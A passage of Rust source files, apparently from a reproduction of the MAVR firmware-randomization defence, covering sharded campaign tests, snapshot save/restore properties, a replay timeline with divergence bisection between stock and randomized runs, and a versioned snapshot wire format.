        attack_cycles: 2_500_000,
        ..CampaignConfig::default()
    }
}

/// The unsharded oracle, computed once: report JSON, Prometheus text,
/// metrics JSONL.
fn oracle() -> &'static (String, String, String) {
    static ORACLE: OnceLock<(String, String, String)> = OnceLock::new();
    ORACLE.get_or_init(|| {
        let (report, metrics) = run_campaign_with_metrics(&cfg());
        (
            report.to_json(),
            metrics.to_prometheus(),
            metrics.to_jsonl(),
        )
    })
}

/// Deterministic shuffle (Fisher–Yates over a splitmix64 stream) so the
/// proptest case, not wall-clock entropy, picks the execution order.
fn shuffle<T>(items: &mut [T], mut seed: u64) {
    let mut next = move || {
        seed = seed.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = seed;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    };
    for i in (1..items.len()).rev() {
        items.swap(i, (next() % (i as u64 + 1)) as usize);
    }
}

/// Turn arbitrary cut points into a contiguous partition of `[0, total)`.
fn partition(cuts: &[usize], total: u64) -> Vec<(u64, u64)> {
    let mut bounds: Vec<u64> = cuts.iter().map(|c| (*c as u64) % (total + 1)).collect();
    bounds.push(0);
    bounds.push(total);
    bounds.sort_unstable();
    bounds
        .windows(2)
        .filter(|w| w[0] < w[1])
        .map(|w| (w[0], w[1]))
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(6))]

    /// Any partition, any execution order, any merge order, any thread
    /// count, with every shard killed mid-run and resumed from its wire
    /// bytes: the merged report and metrics equal the unsharded run's.
    #[test]
    fn shard_merge_is_byte_identical_to_unsharded_run(
        cuts in pvec(0usize..9, 0..4),
        order_seed in any::<u64>(),
        threads in 1usize..4,
        budget in 1usize..3,
    ) {
        let cfg = CampaignConfig { threads, ..cfg() };
        let total = cfg.total_jobs() as u64;
        let ranges = partition(&cuts, total);

        // Build one checkpoint per range. Ranges need not come from a
        // uniform ShardPlan — merge only demands a partition.
        let mut shards: Vec<ShardCheckpoint> = ranges
            .iter()
            .enumerate()
            .map(|(i, &(lo, hi))| ShardCheckpoint {
                fingerprint: config_fingerprint(&cfg),
                shard_index: i as u64,
                shard_count: ranges.len() as u64,
                job_lo: lo,
                job_hi: hi,
                outcomes: BTreeMap::new(),
            })
            .collect();
        shuffle(&mut shards, order_seed);

        // Run each shard: first a budgeted slice (a mid-shard kill), then a
        // serialize/deserialize round trip (the on-disk checkpoint), then
        // resume to completion. Streamed outcomes must arrive in job order.
        let prepared = PreparedCampaign::new(&cfg);
        let mut done_campaign_wide = 0usize;
        for shard in &mut shards {
            let first = run_shard_resume(
                &cfg, &prepared, shard, Some(budget), done_campaign_wide, |_, _| {},
            ).unwrap();
            prop_assert!(!first.interrupted);
            prop_assert_eq!(first.ran, budget.min(shard.jobs() as usize));

            *shard = ShardCheckpoint::from_bytes(&shard.to_bytes()).unwrap();

            let mut streamed: Vec<u64> = Vec::new();
            let rest = run_shard_resume(
                &cfg, &prepared, shard, None, done_campaign_wide + first.ran,
                |job, _| streamed.push(job),
            ).unwrap();
            prop_assert!(rest.complete);
            let expected: Vec<u64> = (shard.job_lo..shard.job_hi).skip(first.ran).collect();
            prop_assert_eq!(&streamed, &expected, "outcomes stream in job order");
            done_campaign_wide += shard.jobs() as usize;
        }

        // Merge in a different arbitrary order.
        shuffle(&mut shards, order_seed.wrapping_mul(0x5851_f42d_4c95_7f2d));
        let (report, metrics) = merge_shard_checkpoints(&cfg, shards.clone()).unwrap();
        let (json, prom, jsonl) = oracle();
        prop_assert_eq!(&report.to_json(), json);
        prop_assert_eq!(&metrics.to_prometheus(), prom);
        prop_assert_eq!(&metrics.to_jsonl(), jsonl);

        // The streaming merge the campaign service uses — an incremental
        // CampaignAggregate fold plus prelude/lines/epilogue concatenation,
        // never holding a CampaignReport — writes the same bytes.
        shards.sort_by_key(|s| s.job_lo);
        let mut agg = CampaignAggregate::new(&cfg.scenarios, &cfg.loss_levels, &cfg.fault_levels);
        let mut lines: Vec<String> = Vec::new();
        for shard in &shards {
            for outcome in shard.outcomes.values() {
                agg.fold(outcome).unwrap();
                lines.push(outcome.to_json_line());
            }
        }
        let (cells, fleet, agg_metrics) = agg.finish();
        let mut streamed_json = json_prelude(&summarize(&cfg), &cells, &fleet);
        for (i, line) in lines.iter().enumerate() {
            if i > 0 {
                streamed_json.push_str(",\n");
            }
            streamed_json.push_str("    ");
            streamed_json.push_str(line);
        }
        streamed_json.push_str(JSON_EPILOGUE);
        prop_assert_eq!(&streamed_json, json);
        prop_assert_eq!(&agg_metrics.to_prometheus(), prom);
        prop_assert_eq!(&agg_metrics.to_jsonl(), jsonl);
    }
}

/// The aggregate refuses outcomes from outside the campaign matrix instead
/// of silently misfiling them.
#[test]
fn aggregate_rejects_foreign_outcomes() {
    let cfg = cfg();
    let mut agg = CampaignAggregate::new(&cfg.scenarios, &cfg.loss_levels, &cfg.fault_levels);
    let foreign = BoardOutcome {
        scenario: Scenario::V3Trampoline,
        loss: 0.01,
        fault: 0.0,
        ..sample()
    };
    assert!(agg.fold(&foreign).is_err());
    let wrong_loss = BoardOutcome {
        scenario: Scenario::Benign,
        loss: 0.5,
        fault: 0.0,
        ..sample()
    };
    assert!(agg.fold(&wrong_loss).is_err());
}

fn sample() -> BoardOutcome {
    BoardOutcome {
        scenario: Scenario::Benign,
        loss: 0.01,
        fault: 0.0,
        board_index: 0,
        board_seed: 1,
        attack_packets: 0,
        attack_succeeded: false,
        recoveries: 0,
        reflash_retries: 0,
        degraded_boots: 0,
        bricked: false,
        time_to_recovery: None,
        final_cycle: 1,
        heartbeats: 1,
        packets: 1,
        seq_gaps: 0,
        packets_lost: 0,
        bad_checksums: 0,
        uav_bad_crc: 0,
        sim_block_hits: 0,
        sim_block_invalidations: 0,
        sim_block_count: 0,
        up_stats: Default::default(),
        down_stats: Default::default(),
        world: None,
        failure: None,
    }
}
