//! Lockstep-equivalence properties of snapshot save/restore: a machine
//! saved at an arbitrary point and resurrected into a *fresh* machine must
//! be architecturally indistinguishable from one that never stopped — on
//! structured programs with live interrupts and watchdogs, across reflash,
//! and regardless of whether either side runs through the predecode cache.

use avr_core::encode::encode_to_bytes;
use avr_core::{Insn, Reg};
use avr_sim::timer::{TCCR0B_ADDR, TCNT0_ADDR, TIMER0_OVF_VECTOR, TOV0};
use avr_sim::{Fault, Machine};
use mavr_snapshot::{apply_machine_delta, decode_machine, encode_machine, encode_machine_delta};
use proptest::collection::vec as pvec;
use proptest::prelude::*;

/// Word address the structured programs run from, clear of the vector table.
const PROG_WORD: u32 = 64;

fn arch(m: &Machine) -> (u32, u8, u16, u64, Option<Fault>, u64, u64) {
    (
        m.pc(),
        m.sreg(),
        m.sp(),
        m.cycles(),
        m.fault(),
        m.insns_retired,
        m.interrupts_taken,
    )
}

/// Drive both machines one instruction at a time and assert identical
/// architectural state after every instruction; full-state equality
/// (SRAM, flash, every peripheral) is asserted once at the end.
fn lockstep(a: &mut Machine, b: &mut Machine, max_steps: usize) {
    for step in 0..max_steps {
        let ea = a.run(1);
        let eb = b.run(1);
        assert_eq!(ea, eb, "run exit diverged at step {step}");
        assert_eq!(
            arch(a),
            arch(b),
            "architectural state diverged at step {step}"
        );
        if a.fault().is_some() {
            break;
        }
    }
    assert_eq!(
        a.capture_state(),
        b.capture_state(),
        "full state (SRAM/flash/peripherals) diverged"
    );
}

fn insn_strategy() -> impl Strategy<Value = Insn> {
    prop_oneof![
        (any::<u8>()).prop_map(|k| Insn::Ldi { d: Reg::R24, k }),
        (any::<u8>()).prop_map(|k| Insn::Ldi { d: Reg::R25, k }),
        Just(Insn::Add {
            d: Reg::R24,
            r: Reg::R25
        }),
        Just(Insn::Push { r: Reg::R24 }),
        Just(Insn::Pop { d: Reg::R25 }),
        Just(Insn::Inc { d: Reg::R24 }),
        Just(Insn::Nop),
        Just(Insn::Wdr),
        Just(Insn::Bset { s: 7 }), // sei
        Just(Insn::Bclr { s: 7 }), // cli
        Just(Insn::Cpse {
            d: Reg::R24,
            r: Reg::R25
        }),
        Just(Insn::Sbrs { r: Reg::R24, b: 0 }),
        Just(Insn::Rjmp { k: 1 }),
        Just(Insn::Call { k: PROG_WORD }),
        Just(Insn::Ret),
        // Write SRAM and retune the timer mid-run.
        Just(Insn::Sts {
            k: 0x0400,
            r: Reg::R24
        }),
        Just(Insn::Sts {
            k: TCCR0B_ADDR,
            r: Reg::R24
        }),
        Just(Insn::Sts {
            k: TCNT0_ADDR,
            r: Reg::R25
        }),
    ]
}

/// An IRQ-and-watchdog-laden machine running `bytes` at [`PROG_WORD`].
fn live_machine(bytes: &[u8], prescale: u8, wd_timeout: u64, predecode: bool) -> Machine {
    let mut m = Machine::new_atmega2560();
    m.set_predecode(predecode);
    m.load_flash(
        TIMER0_OVF_VECTOR * 4,
        &encode_to_bytes(&[Insn::Reti]).unwrap(),
    );
    m.load_flash(PROG_WORD * 2, bytes);
    m.set_pc_bytes(PROG_WORD * 2);
    m.set_sreg(1 << 7); // I
    m.timer0.tccr_b = prescale;
    m.timer0.timsk = TOV0;
    m.watchdog.enable(wd_timeout, 0);
    m
}

proptest! {
    /// The headline property: run to an arbitrary split point, serialize,
    /// deserialize into a *fresh* machine (with its own independently
    /// chosen predecode setting), and the resumed machine stays lockstep
    /// with one that never stopped — through interrupt delivery and
    /// watchdog expiry.
    #[test]
    fn save_restore_resume_is_lockstep_identical(
        prog in pvec(insn_strategy(), 1..48),
        prescale in 1u8..=3,
        wd_timeout in 200u64..4000,
        split in 0usize..200,
        pd_uninterrupted in any::<bool>(),
        pd_resumed in any::<bool>(),
    ) {
        let bytes = encode_to_bytes(&prog).unwrap();
        let mut uninterrupted = live_machine(&bytes, prescale, wd_timeout, pd_uninterrupted);
        let mut original = live_machine(&bytes, prescale, wd_timeout, true);
        for _ in 0..split {
            uninterrupted.run(1);
            original.run(1);
        }
        // Serialize through the wire format, not just the in-memory state.
        let blob = encode_machine(&original.capture_state());
        let state = decode_machine(&blob).unwrap();
        let mut resumed = Machine::new_atmega2560();
        resumed.set_predecode(pd_resumed);
        resumed.restore_state(&state);
        prop_assert_eq!(arch(&resumed), arch(&uninterrupted));
        lockstep(&mut resumed, &mut uninterrupted, 300);
    }

    /// Delta snapshots carry exactly the pages execution touched: keyframe,
    /// run on, delta-encode, and the keyframe + delta must reconstruct the
    /// machine bit-for-bit — and resume lockstep-identically.
    #[test]
    fn delta_reconstruction_resumes_identically(
        prog in pvec(insn_strategy(), 1..48),
        prescale in 1u8..=3,
        gap in 1usize..150,
    ) {
        let bytes = encode_to_bytes(&prog).unwrap();
        let mut m = live_machine(&bytes, prescale, 1_000_000, true);
        m.run(50);
        let keyframe = m.capture_state();
        m.clear_dirty();
        for _ in 0..gap {
            m.run(1);
        }
        let delta = encode_machine_delta(&m, keyframe.cycles);
        let rebuilt = apply_machine_delta(&keyframe, &delta).unwrap();
        prop_assert_eq!(&rebuilt, &m.capture_state());
        let mut resumed = Machine::new_atmega2560();
        resumed.restore_state(&rebuilt);
        lockstep(&mut resumed, &mut m, 200);
    }

    /// Reflash coherence: snapshot taken *after* an erase + reflash + reset
    /// (the MAVR recovery path) restores the new program, not the old one,
    /// and resumes lockstep-identically.
    #[test]
    fn snapshot_across_reflash_resumes_identically(
        prog_a in pvec(insn_strategy(), 1..32),
        prog_b in pvec(insn_strategy(), 1..32),
        split in 0usize..100,
    ) {
        let bytes_a = encode_to_bytes(&prog_a).unwrap();
        let bytes_b = encode_to_bytes(&prog_b).unwrap();
        let mut m = live_machine(&bytes_a, 2, 1_000_000, true);
        for _ in 0..split {
            m.run(1);
        }
        m.erase_flash();
        m.load_flash(PROG_WORD * 2, &bytes_b);
        m.reset();
        m.set_pc_bytes(PROG_WORD * 2);
        m.run(20);
        let state = decode_machine(&encode_machine(&m.capture_state())).unwrap();
        let mut resumed = Machine::new_atmega2560();
        resumed.restore_state(&state);
        lockstep(&mut resumed, &mut m, 200);
    }
}
