//! Deterministic snapshot/replay for the MAVR reproduction.
//!
//! The paper's evaluation (§VII) repeatedly needs to answer "what exactly
//! was the machine doing at cycle N?" — when a stealthy code-reuse attack
//! fires (§V), when the master's watchdog catches a crashed application
//! processor (§VI-A), when a randomized image and a stock image stop
//! behaving identically. Because the whole stack is deterministic, those
//! questions have exact answers; this crate makes them cheap:
//!
//! * [`format`] — a versioned, CRC-guarded binary format for full machine
//!   state, dirty-page deltas against a keyframe, whole-board state, and
//!   fleet campaign checkpoints. Corruption is detected before a broken
//!   state is ever loaded.
//! * [`replay`] — [`Timeline`] keyframing over a run (`rewind_to` any
//!   cycle), and [`bisect_divergence`]: given a stock and a
//!   MAVR-randomized execution of the same attack, find the exact first
//!   cycle where the randomized run departs — the forensic signature of a
//!   code-reuse payload whose hard-coded addresses no longer match the
//!   shuffled layout.
//!
//! Delta snapshots lean on the simulator's dirty-page tracking
//! ([`avr_sim::Machine::dirty_data_pages`]): after a keyframe, a snapshot
//! costs only the 256-byte pages actually touched, so periodic keyframing
//! of a ~270 KiB machine runs at a few KiB per interval.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod format;
pub mod replay;

pub use format::{
    apply_machine_delta, crc32, decode_board, decode_machine, decode_world, encode_board,
    encode_machine, encode_machine_delta, encode_world, Kind, Reader, SnapshotError, Writer, MAGIC,
    VERSION,
};
pub use replay::{bisect_divergence, Divergence, Timeline};
