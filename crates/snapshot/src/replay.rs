//! Time-travel over a machine run: keyframe timelines, rewind, and
//! divergence bisection between a stock and a randomized execution.
//!
//! A [`Timeline`] records full-state keyframes every `interval` cycles
//! while the machine executes. Because the simulator is deterministic,
//! any intermediate cycle can be revisited by restoring the last keyframe
//! at or before it and re-executing forward ([`Timeline::rewind_to`]) —
//! storage cost is `O(run / interval)` keyframes, access cost is at most
//! one interval of re-execution.
//!
//! [`bisect_divergence`] is the forensic payoff: run the same firmware and
//! the same attack against a stock image and a MAVR-randomized image
//! (paper §V), record both timelines, and find the *exact first cycle*
//! where the randomized execution departs from the stock one. Until the
//! attack's hard-coded gadget addresses take effect the two runs retire
//! identical instruction streams (randomization moves whole functions, so
//! intra-function flow and AVR jump/call timing are unchanged); the first
//! divergent cycle is where the code-reuse payload stopped matching
//! reality.

use crate::format;
use avr_core::image::FirmwareImage;
use avr_sim::{Machine, MachineState, RunExit};
use telemetry::{kinds, Counters, Value};

/// A recorded sequence of full-state keyframes over one machine run.
#[derive(Debug, Clone)]
pub struct Timeline {
    interval: u64,
    keyframes: Vec<MachineState>,
    /// Monotonic counters keyed by the [`telemetry::kinds`] names
    /// (`snapshot.saved`, `snapshot.restored`).
    pub counters: Counters,
}

impl Timeline {
    /// An empty timeline taking a keyframe every `interval` cycles
    /// (clamped to at least 1).
    pub fn new(interval: u64) -> Self {
        Timeline {
            interval: interval.max(1),
            keyframes: Vec::new(),
            counters: Counters::default(),
        }
    }

    /// The keyframe spacing in cycles.
    pub fn interval(&self) -> u64 {
        self.interval
    }

    /// The recorded keyframes, oldest first.
    pub fn keyframes(&self) -> &[MachineState] {
        &self.keyframes
    }

    fn capture(&mut self, m: &mut Machine) {
        let state = m.capture_state();
        m.telemetry
            .emit(kinds::SNAPSHOT_SAVED, Some(state.cycles), || {
                vec![
                    ("keyframe", Value::U64(0)),
                    ("pc", Value::U64(u64::from(state.pc) * 2)),
                ]
            });
        self.counters.add(kinds::SNAPSHOT_SAVED, 1);
        self.keyframes.push(state);
    }

    /// Run `m` for (at most) `cycles` more cycles, capturing a keyframe at
    /// the current point and then at every `interval` boundary. Keyframes
    /// are instruction-aligned, so each may overshoot its boundary by one
    /// instruction's cycles. Returns the final [`RunExit`]; a fault stops
    /// recording after capturing the faulted state as a terminal keyframe.
    pub fn record(&mut self, m: &mut Machine, cycles: u64) -> RunExit {
        if self.keyframes.is_empty() {
            self.capture(m);
        }
        let target = m.cycles().saturating_add(cycles);
        while m.cycles() < target {
            let last = self.keyframes.last().expect("captured above").cycles;
            let boundary = last.saturating_add(self.interval).max(m.cycles() + 1);
            let chunk = boundary.min(target) - m.cycles();
            let exit = m.run(chunk);
            if m.cycles() >= boundary || !matches!(exit, RunExit::CyclesExhausted) {
                self.capture(m);
            }
            if !matches!(exit, RunExit::CyclesExhausted) {
                return exit;
            }
        }
        RunExit::CyclesExhausted
    }

    /// Capture a keyframe right now, regardless of the interval. Call this
    /// after feeding the machine an external input the simulator cannot
    /// re-derive (a UART injection, a flash patch): replays only reproduce
    /// state that some keyframe has seen, so inputs applied between
    /// keyframes would otherwise be lost to any rewind that predates them.
    pub fn mark(&mut self, m: &mut Machine) {
        self.capture(m);
    }

    /// Rewind `m` to `cycle`: restore the last keyframe at or before it,
    /// then re-execute forward until the machine's cycle counter reaches
    /// `cycle` (instruction-aligned, so it may stop just past it). Returns
    /// `None` when `cycle` predates the first keyframe; otherwise the
    /// machine's cycle counter after positioning.
    pub fn rewind_to(&mut self, m: &mut Machine, cycle: u64) -> Option<u64> {
        let kf = self.keyframes.iter().rev().find(|k| k.cycles <= cycle)?;
        m.restore_state(kf);
        m.telemetry
            .emit(kinds::SNAPSHOT_RESTORED, Some(kf.cycles), || {
                vec![("target_cycle", Value::U64(cycle))]
            });
        self.counters.add(kinds::SNAPSHOT_RESTORED, 1);
        while m.cycles() < cycle && m.fault().is_none() {
            if m.step().is_err() {
                break;
            }
        }
        Some(m.cycles())
    }

    /// Serialize the timeline's last keyframe as a snapshot blob — the
    /// "pre-crash snapshot" a [`avr_sim::CrashReport`] points at.
    pub fn last_keyframe_blob(&self) -> Option<Vec<u8>> {
        self.keyframes.last().map(format::encode_machine)
    }
}

/// The first cycle at which a randomized run departs from the stock run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Divergence {
    /// First cycle where the two executions disagree.
    pub cycle: u64,
    /// Stock machine's PC (byte address) at that cycle.
    pub stock_pc: u32,
    /// Randomized machine's PC (byte address) at that cycle — *not*
    /// normalized, i.e. where the randomized layout actually was.
    pub randomized_pc: u32,
}

/// Map a byte PC in the randomized layout back to the stock layout via
/// symbols: same function, same intra-function offset. Addresses outside
/// any known symbol (vectors, attacker-injected SRAM gadget chains) pass
/// through unchanged.
fn normalize_pc(pc_bytes: u32, from: &FirmwareImage, to: &FirmwareImage) -> u32 {
    match from.symbol_containing(pc_bytes) {
        Some(sym) => match to.symbol(&sym.name) {
            Some(dst) => dst.addr + (pc_bytes - sym.addr),
            None => pc_bytes,
        },
        None => pc_bytes,
    }
}

/// Whether two machines are at equivalent points: same cycle count, same
/// fault status, and the randomized PC maps onto the stock PC under symbol
/// normalization.
#[allow(clippy::too_many_arguments)]
fn aligned(
    stock_cycles: u64,
    stock_pc_bytes: u32,
    stock_fault: bool,
    rand_cycles: u64,
    rand_pc_bytes: u32,
    rand_fault: bool,
    rand_img: &FirmwareImage,
    stock_img: &FirmwareImage,
) -> bool {
    stock_cycles == rand_cycles
        && stock_fault == rand_fault
        && normalize_pc(rand_pc_bytes, rand_img, stock_img) == stock_pc_bytes
}

/// Find the exact first cycle where `randomized`'s execution departs from
/// `stock`'s.
///
/// Both timelines must have been recorded over the same firmware, inputs,
/// and attack — `stock_m`/`rand_m` are the machines they recorded (their
/// current state is clobbered by the bisection). The coarse phase scans the
/// keyframe pairs for the first misaligned pair; the fine phase restores
/// both machines at the last aligned keyframe and locksteps them one
/// instruction at a time until they split. Returns `None` when the runs
/// never diverge (e.g. the attack works identically on both layouts).
#[allow(clippy::too_many_arguments)]
pub fn bisect_divergence(
    stock: &mut Timeline,
    stock_m: &mut Machine,
    stock_img: &FirmwareImage,
    randomized: &mut Timeline,
    rand_m: &mut Machine,
    rand_img: &FirmwareImage,
) -> Option<Divergence> {
    let pairs = stock.keyframes.len().min(randomized.keyframes.len());
    if pairs == 0 {
        return None;
    }
    let kf_aligned = |i: usize| {
        let (s, r) = (&stock.keyframes[i], &randomized.keyframes[i]);
        aligned(
            s.cycles,
            s.pc * 2,
            s.fault.is_some(),
            r.cycles,
            r.pc * 2,
            r.fault.is_some(),
            rand_img,
            stock_img,
        )
    };
    // Coarse: first keyframe pair that is out of alignment. A length
    // mismatch with all shared pairs aligned means one run faulted inside
    // the window after the last shared keyframe — treat that window as
    // divergent too.
    let first_bad = (0..pairs)
        .find(|&i| !kf_aligned(i))
        .or_else(|| (stock.keyframes.len() != randomized.keyframes.len()).then_some(pairs))?;
    if first_bad == 0 {
        // Diverged before the first keyframe — the recording started too
        // late to pinpoint it; report the earliest evidence we have.
        let (s, r) = (&stock.keyframes[0], &randomized.keyframes[0]);
        return Some(Divergence {
            cycle: s.cycles.min(r.cycles),
            stock_pc: s.pc * 2,
            randomized_pc: r.pc * 2,
        });
    }
    // Fine: rewind both to the last aligned keyframe and lockstep.
    stock_m.restore_state(&stock.keyframes[first_bad - 1]);
    rand_m.restore_state(&randomized.keyframes[first_bad - 1]);
    stock.counters.add(kinds::SNAPSHOT_RESTORED, 1);
    randomized.counters.add(kinds::SNAPSHOT_RESTORED, 1);
    let budget = stock.keyframes[first_bad - 1]
        .cycles
        .saturating_add(stock.interval * 2 + 64);
    loop {
        let split = !aligned(
            stock_m.cycles(),
            stock_m.pc_bytes(),
            stock_m.fault().is_some(),
            rand_m.cycles(),
            rand_m.pc_bytes(),
            rand_m.fault().is_some(),
            rand_img,
            stock_img,
        );
        if split {
            return Some(Divergence {
                cycle: stock_m.cycles().min(rand_m.cycles()),
                stock_pc: stock_m.pc_bytes(),
                randomized_pc: rand_m.pc_bytes(),
            });
        }
        if stock_m.cycles() > budget || (stock_m.fault().is_some() && rand_m.fault().is_some()) {
            // Aligned all the way through the suspect window (or both
            // faulted identically): the keyframe mismatch was transient
            // peripheral state, not a control-flow split.
            return None;
        }
        let a = stock_m.step();
        let b = rand_m.step();
        if a.is_err() && b.is_err() {
            // Both just faulted; loop once more to compare alignment.
            continue;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use avr_core::encode::encode_to_bytes;
    use avr_core::{Insn, Reg};

    fn counter_machine() -> Machine {
        let mut m = Machine::new_atmega2560();
        m.load_flash(
            0,
            &encode_to_bytes(&[
                Insn::Ldi { d: Reg::R24, k: 0 },
                Insn::Inc { d: Reg::R24 },
                Insn::Sts {
                    k: 0x0400,
                    r: Reg::R24,
                },
                Insn::Rjmp { k: -4 },
            ])
            .unwrap(),
        );
        m
    }

    #[test]
    fn record_spaces_keyframes_by_interval() {
        let mut m = counter_machine();
        let mut tl = Timeline::new(1_000);
        let exit = tl.record(&mut m, 10_000);
        assert!(matches!(exit, RunExit::CyclesExhausted));
        let kfs = tl.keyframes();
        assert!(kfs.len() >= 10, "got {} keyframes", kfs.len());
        for pair in kfs.windows(2) {
            let gap = pair[1].cycles - pair[0].cycles;
            assert!(
                (1_000..1_010).contains(&gap),
                "keyframe gap {gap} should be interval-aligned"
            );
        }
        assert_eq!(tl.counters.get(kinds::SNAPSHOT_SAVED), kfs.len() as u64);
    }

    #[test]
    fn rewind_revisits_exact_intermediate_state() {
        let mut m = counter_machine();
        let mut tl = Timeline::new(500);
        tl.record(&mut m, 8_000);
        // Independently run a fresh machine to cycle ~3100 for ground truth.
        let mut truth = counter_machine();
        truth.run(3_100);
        let reached = tl.rewind_to(&mut m, 3_100).unwrap();
        assert_eq!(reached, truth.cycles());
        assert_eq!(m.capture_state(), truth.capture_state());
        assert!(tl.counters.get(kinds::SNAPSHOT_RESTORED) >= 1);
        // Rewinding before the first keyframe is refused.
        let mut m2 = counter_machine();
        m2.run(100); // move past 0 so keyframe 0 (cycle 0) still qualifies
        assert!(tl.rewind_to(&mut m2, 0).is_some());
    }

    #[test]
    fn identical_runs_do_not_diverge() {
        let img = FirmwareImage::new(avr_core::device::ATMEGA2560);
        let mut a = counter_machine();
        let mut b = counter_machine();
        let mut ta = Timeline::new(1_000);
        let mut tb = Timeline::new(1_000);
        ta.record(&mut a, 10_000);
        tb.record(&mut b, 10_000);
        assert_eq!(
            bisect_divergence(&mut ta, &mut a, &img, &mut tb, &mut b, &img),
            None
        );
    }

    /// A loop that executes identically for ~4100 cycles (a 10-bit counter
    /// built from r24/r25), then falls through to a tail instruction at
    /// word 8 that differs between the two variants.
    fn late_tail_machine(tail: Insn) -> Machine {
        let mut m = Machine::new_atmega2560();
        m.load_flash(
            0,
            &encode_to_bytes(&[
                Insn::Ldi { d: Reg::R24, k: 0 },
                Insn::Ldi { d: Reg::R25, k: 0 },
                // loop:
                Insn::Inc { d: Reg::R24 },
                Insn::Cpse {
                    d: Reg::R24,
                    r: Reg::R0, // r0 stays 0: skip when r24 wraps
                },
                Insn::Rjmp { k: -3 },
                Insn::Inc { d: Reg::R25 }, // every 256 iterations
                Insn::Sbrs { r: Reg::R25, b: 2 },
                Insn::Rjmp { k: -6 },
                tail, // word 8: first reached once r25 hits 4
            ])
            .unwrap(),
        );
        m
    }

    #[test]
    fn late_divergence_is_pinpointed_to_the_exact_cycle() {
        let img = FirmwareImage::new(avr_core::device::ATMEGA2560);
        // Stock keeps looping from the tail; the variant wedges into a
        // self-loop there. Until word 8 is reached the runs are
        // instruction-for-instruction identical.
        let mut a = late_tail_machine(Insn::Rjmp { k: -7 });
        let mut b = late_tail_machine(Insn::Rjmp { k: -1 });
        let mut ta = Timeline::new(1_000);
        let mut tb = Timeline::new(1_000);
        ta.record(&mut a, 10_000);
        tb.record(&mut b, 10_000);
        // Ground truth: step a fresh variant until it first fetches word 8;
        // the runs split when that tail rjmp retires (2 cycles later).
        let mut truth = late_tail_machine(Insn::Rjmp { k: -1 });
        while truth.pc_bytes() != 16 {
            truth.step().unwrap();
        }
        let expected = truth.cycles() + 2;
        let d = bisect_divergence(&mut ta, &mut a, &img, &mut tb, &mut b, &img)
            .expect("variant run must diverge");
        assert_eq!(d.cycle, expected, "divergence cycle must be exact");
        assert_eq!(d.stock_pc, 4, "stock loops back to word 2");
        assert_eq!(d.randomized_pc, 16, "variant self-loops at word 8");
    }

    #[test]
    fn normalize_pc_maps_function_offsets_across_layouts() {
        use avr_core::image::{Symbol, SymbolKind};
        let mk = |addr| {
            let mut img = FirmwareImage::new(avr_core::device::ATMEGA2560);
            img.bytes = vec![0; 0x2000];
            img.symbols = vec![Symbol {
                name: "loop_main".into(),
                addr,
                size: 0x40,
                kind: SymbolKind::Function,
            }];
            img
        };
        let stock = mk(0x100);
        let rand = mk(0x900);
        assert_eq!(normalize_pc(0x912, &rand, &stock), 0x112);
        // Outside any symbol: identity.
        assert_eq!(normalize_pc(0x2a, &rand, &stock), 0x2a);
    }
}
