//! The versioned, CRC-guarded snapshot wire format.
//!
//! Every snapshot is one self-describing blob:
//!
//! ```text
//! +--------+---------+------+-------------+-----------+-------+
//! | magic  | version | kind | payload_len |  payload  | crc32 |
//! | 8 B    | u16     | u8   | u64         | ...       | u32   |
//! +--------+---------+------+-------------+-----------+-------+
//! ```
//!
//! All integers are little-endian. The CRC (IEEE 802.3 polynomial) covers
//! the payload only, so a flipped bit anywhere in the state is caught
//! before a corrupted machine is ever resurrected. The [`Kind`] byte keeps
//! one decoder from swallowing another's payload: a campaign checkpoint
//! handed to [`decode_machine`] fails loudly instead of misparsing.
//!
//! Payloads are built with [`Writer`] and parsed with [`Reader`] — a
//! bounds-checked cursor that never panics on truncated or malformed
//! input; every structural problem surfaces as a [`SnapshotError`].

use avr_sim::{
    AdcState, EepromState, Fault, HeartbeatState, Machine, MachineState, Pwm, Timer0State,
    UartState, WatchdogState, DIRTY_PAGE_SIZE, PORTB_ADDR,
};
use mavr_board::BoardState;

/// Leading magic of every snapshot blob.
pub const MAGIC: &[u8; 8] = b"MAVRSNAP";

/// Current format version. Bump on any payload layout change.
/// v2: board payloads carry the fault plan's RNG state and the master's
/// resilience counters.
/// v3: machine payloads carry the physical-world peripherals — ADC,
/// PWM compare latches, and the PORTB output latch. v2 blobs still
/// decode: the new fields default and the PORTB latch is backfilled
/// from the data image, where v2 encoders stored it.
/// v4: campaign checkpoint outcomes carry the supervised-job failure
/// record (quarantine kind + attempts). v3 blobs still decode: no job
/// the pre-supervision engine ran could have been quarantined, so the
/// field defaults to "no failure".
pub const VERSION: u16 = 4;

/// What a snapshot blob contains.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A complete [`MachineState`].
    MachineFull,
    /// A dirty-page delta against a machine keyframe.
    MachineDelta,
    /// A complete [`BoardState`].
    Board,
    /// A fleet campaign checkpoint (payload owned by the `fleet` crate).
    Checkpoint,
    /// A [`mavr_world::WorldState`]: the physical arena around a board.
    World,
    /// One shard of a sharded fleet campaign: a contiguous job range and
    /// its completed outcomes (payload owned by the `fleet` crate). Kept
    /// distinct from [`Kind::Checkpoint`] so a shard file can never be
    /// resumed as a whole-campaign checkpoint or vice versa.
    ShardCheckpoint,
}

impl Kind {
    fn to_u8(self) -> u8 {
        match self {
            Kind::MachineFull => 1,
            Kind::MachineDelta => 2,
            Kind::Board => 3,
            Kind::Checkpoint => 4,
            Kind::World => 5,
            Kind::ShardCheckpoint => 6,
        }
    }

    fn from_u8(v: u8) -> Option<Kind> {
        match v {
            1 => Some(Kind::MachineFull),
            2 => Some(Kind::MachineDelta),
            3 => Some(Kind::Board),
            4 => Some(Kind::Checkpoint),
            5 => Some(Kind::World),
            6 => Some(Kind::ShardCheckpoint),
            _ => None,
        }
    }
}

/// Why a snapshot blob could not be decoded.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SnapshotError {
    /// Fewer bytes than the structure requires.
    Truncated {
        /// Bytes the decoder needed next.
        needed: usize,
        /// Bytes actually remaining.
        have: usize,
    },
    /// The blob does not start with [`MAGIC`].
    BadMagic,
    /// The blob's version is newer than this decoder.
    UnsupportedVersion(u16),
